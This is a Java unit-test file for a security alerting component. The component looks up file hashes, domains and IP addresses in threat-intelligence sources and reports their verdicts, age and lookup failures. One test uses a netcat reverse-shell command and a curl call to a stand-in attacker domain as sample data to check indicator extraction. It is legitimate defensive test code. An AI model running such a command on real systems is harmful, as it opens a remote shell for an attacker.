package dev.takagari.alerting.facts.finder;

import static dev.takagari.alerting.facts.FactWorld.T;
import static dev.takagari.alerting.facts.finder.FindersTestKit.ask;
import static dev.takagari.alerting.facts.finder.FindersTestKit.detection;
import static dev.takagari.alerting.facts.finder.FindersTestKit.told;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import dev.takagari.alerting.facts.FactAnswer;
import dev.takagari.alerting.facts.FactWorld;
import dev.takagari.alerting.facts.Inquiry;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.FactGroup.Kind;
import dev.takagari.core.cases.FactGroup.State;
import dev.takagari.core.event.Column;
import dev.takagari.core.event.Columns;
import dev.takagari.core.intel.IntelAnswer;
import dev.takagari.core.intel.IntelFacts;
import dev.takagari.core.intel.IntelFailure;
import dev.takagari.core.intel.IntelQuestion;
import dev.takagari.core.intel.IntelQuestion.Reach;
import dev.takagari.core.intel.IntelRefusal;
import dev.takagari.core.intel.IntelVerdict;
import dev.takagari.core.intel.Observed;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class KnownFinderTest {
  private static final String HASH = "5e".repeat(32);

  private final FactWorld world = new FactWorld();

  private FactGroup all(Map<Column, String> columns) {
    return ask(KnownFinder.ofAll(world.intel()), detection(columns));
  }

  @Test
  void judgementsAreThoseOfASourceWithTheirAge() {
    world.said.put(
        "virustotal " + HASH,
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.MALICIOUS).detections(45).engines(70).build(),
            T.minus(Duration.ofDays(3))));
    world.said.put(
        "indicators bad.example",
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.SUSPICIOUS)
                .firstSeen(Instant.parse("2026-11-01T08:00:00Z"))
                .detail("sources", "isac, urlhaus")
                .build(),
            T));
    world.said.put(
        "virustotal bad.example",
        new IntelAnswer.Clean(IntelFacts.of(IntelVerdict.BENIGN).build(), T));

    assertThat(
            told(
                all(
                    Map.of(
                        Columns.PROCESS_HASH_SHA256,
                        HASH,
                        Columns.DNS_QUESTION_NAME,
                        "bad.example"))))
        .containsExactly(
            "called malicious: "
                + HASH
                + ": virustotal says that it is malicious, 45 of 70 engines, said 3 days ago",
            "called suspicious: bad.example: listed by isac, urlhaus since 2026-11-01",
            "called harmless: bad.example: virustotal says that it is harmless",
            "not found: "
                + HASH
                + ": not known to indicators; that is no sign that it is harmless");
  }

  @Test
  void addressesAndUrlsInCommandsAreLookedUpAndNamesOfFilesAreNot() {
    world.said.put(
        "indicators 203.0.113.177",
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.MALICIOUS).detail("sources", "isac").build(), T));
    world.said.put(
        "indicators cdn.bad.example",
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.MALICIOUS).detail("sources", "isac").build(), T));

    List<String> told =
        told(
            all(
                Map.of(
                    Columns.PROCESS_COMMAND_LINE,
                    "sh -c 'nc 203.0.113.177 4444 -e run.sh; curl \"https://cdn.bad.example/a?b\""
                        + " 10.0.0.1 tool-1.2.3.4 1.2.3.4.5 999.1.1.1'")));

    assertThat(told)
        .filteredOn(fact -> fact.startsWith("called malicious"))
        .containsExactlyInAnyOrder(
            "called malicious: 203.0.113.177: listed by isac",
            "called malicious: cdn.bad.example: listed by isac");
    assertThat(told.toString())
        .contains("https://cdn.bad.example/a?b")
        .doesNotContain("run.sh", "1.2.3.4", "10.0.0.1", "999.1");
  }

  @Test
  void servicesOfAwsAreNoLeads() {
    for (String service :
        List.of(
            "ec2.amazonaws.com",
            "AWS Internal",
            "states.us-east-1.amazonaws.com",
            "ec2.cn-north-1.amazonaws.com.cn",
            "sts.eu-central-1.api.aws")) {
      FactGroup group = all(Map.of(Columns.SOURCE_DOMAIN, service, Columns.SOURCE_IP, service));
      assertThat(group.facts()).isEmpty();
      assertThat(group.note()).isEqualTo("there is no hash, name or address to ask about");
    }
    for (String named :
        List.of(
            "loot.s3.amazonaws.com",
            "abc.execute-api.us-east-1.amazonaws.com",
            "ec2-203-0-113-7.compute-1.amazonaws.com",
            "ec2.amazonaws.com.evil.example")) {
      assertThat(told(all(Map.of(Columns.DESTINATION_DOMAIN, named))).toString()).contains(named);
    }
  }

  @Test
  void whatAnIndicatorOnceSaidIsNoJudgementOfToday() {
    world.said.put(
        "indicators bad.example",
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.UNKNOWN).detail("sources", "isac").build(), T));

    assertThat(told(all(Map.of(Columns.DNS_QUESTION_NAME, "bad.example"))).getFirst())
        .isEqualTo("known: bad.example: once listed by isac");
  }

  @Test
  void addressesComeWithCountryAndNetwork() {
    world.said.put(
        "virustotal 203.0.113.9",
        new IntelAnswer.Found(
            IntelFacts.of(IntelVerdict.UNKNOWN)
                .country("DE")
                .asn(64500)
                .owner("Example Net")
                .build(),
            T));

    assertThat(told(all(Map.of(Columns.SOURCE_IP, "203.0.113.9"))).getFirst())
        .isEqualTo(
            "known: 203.0.113.9: virustotal knows it and does not judge, DE AS64500 Example Net");
  }

  @Test
  void whoGaveNoAnswerIsNamed() {
    world.said.put("virustotal bad.example", new IntelAnswer.Failed(IntelFailure.TIMEOUT));
    world.said.put("indicators bad.example", new IntelAnswer.NotAsked(IntelRefusal.QUOTA));

    FactGroup group = all(Map.of(Columns.DNS_QUESTION_NAME, "bad.example"));

    assertThat(group.state()).isEqualTo(State.PARTIAL);
    assertThat(group.note())
        .isEqualTo("indicators was not asked (quota); virustotal gave no answer (timeout)");
    assertThat(group.facts()).isEmpty();
  }

  @Test
  void whatMayNotLeaveIsNoTrouble() {
    world.said.put("virustotal bad.example", new IntelAnswer.NotAsked(IntelRefusal.INTERNAL_NAME));

    assertThat(all(Map.of(Columns.DNS_QUESTION_NAME, "bad.example")).state())
        .isEqualTo(State.COMPLETE);
  }

  @Test
  void atFirstOnlyOurOwnStoresAreAskedAndNothingLeaves() {
    ask(
        KnownFinder.ofOurs(world.intel()),
        detection(Map.of(Columns.DNS_QUESTION_NAME, "bad.example")));

    assertThat(world.intelAsked)
        .extracting(IntelQuestion::reach, IntelQuestion::without)
        .containsExactly(tuple(Reach.OURS, Set.of("sightings", "registry")));
  }

  @Test
  void asksAlsoAboutWhatHappenedBeforeAndAfterButNotAboutPrivateAddresses() {
    FactGroup before =
        new FactAnswer()
            .fact("name", "n", "sensor", T, Map.of(Columns.DNS_QUESTION_NAME, "rare.example"))
            .fact("peer", "p", "sensor", T, Map.of(Columns.DESTINATION_IP, "10.0.0.7"))
            .fact("peer", "p", "sensor", T, Map.of(Columns.DESTINATION_IP, "203.0.113.9"))
            .group(Kind.BEFORE, T, 10);
    Inquiry inquiry = Inquiry.first("A-2026-000001", detection(Map.of()), T).with(List.of(before));

    ask(KnownFinder.ofAll(world.intel()), inquiry);

    assertThat(world.intelAsked.getFirst().observed())
        .extracting(Observed::value)
        .containsExactly("rare.example", "203.0.113.9");
  }

  @Test
  void asksAboutTwentyValuesAndSaysHowManyItDidNot() {
    FactAnswer many = new FactAnswer();
    for (int i = 0; i < 30; i++) {
      many.fact("n", "n", "s", T, Map.of(Columns.DNS_QUESTION_NAME, "n" + i + ".example"));
    }
    Inquiry inquiry =
        Inquiry.first("A-2026-000001", detection(Map.of()), T)
            .with(List.of(many.group(Kind.AFTER, T, 100)));

    FactGroup group = ask(KnownFinder.ofAll(world.intel()), inquiry);

    assertThat(world.intelAsked.getFirst().observed()).hasSize(20);
    assertThat(group.note()).isEqualTo("10 values not asked about");
  }

  @Test
  void saysThatThereIsNothingToAskAbout() {
    assertThat(all(Map.of(Columns.HOST_NAME, "lpt-0042")).note())
        .isEqualTo("there is no hash, name or address to ask about");
    assertThat(world.intelAsked).isEmpty();
  }
}
